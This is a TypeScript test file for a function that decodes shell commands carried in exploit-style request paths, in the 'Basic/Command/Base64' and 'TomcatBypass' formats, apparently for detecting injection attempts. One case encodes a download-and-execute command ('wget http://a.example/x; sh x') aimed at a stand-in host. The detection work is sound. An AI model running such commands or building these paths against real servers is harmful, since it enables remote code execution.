import { expect, test } from 'vitest'
import { carriedBy } from './carried.ts'

const base64Of = (text: string): string => Buffer.from(text).toString('base64')

test.each([
  [
    'a command in base64',
    `Basic/Command/Base64/${base64Of('wget http://a.example/x; sh x')}`,
    ['wget http://a.example/x; sh x'],
  ],
  [
    'with its slashes and plus signs escaped',
    `Basic/Command/Base64/${base64Of('echo >>>???').replaceAll('+', '%2B').replaceAll('/', '%2F')}`,
    ['echo >>>???'],
  ],
  [
    'in the alphabet of URLs',
    `TomcatBypass/Command/Base64/${Buffer.from('echo >>>???').toString('base64url')}`,
    ['echo >>>???'],
  ],
  ['in plain letters', 'Basic/Command/touch /tmp/a', ['touch /tmp/a']],
  ['nothing', 'a/b', []],
  ['what is no text', `Base64/${Buffer.from([0, 1, 2, 3, 4, 5, 6, 7]).toString('base64')}`, []],
])('a path carries %s', (_case, path, carried) => {
  expect(carriedBy(path)).toEqual(carried)
})

test('no path carries nothing, and a long one is cut', () => {
  expect(carriedBy(null)).toEqual([])
  expect(carriedBy(`Base64/${base64Of('a'.repeat(2_900))}`)[0]).toHaveLength(2_000)
})
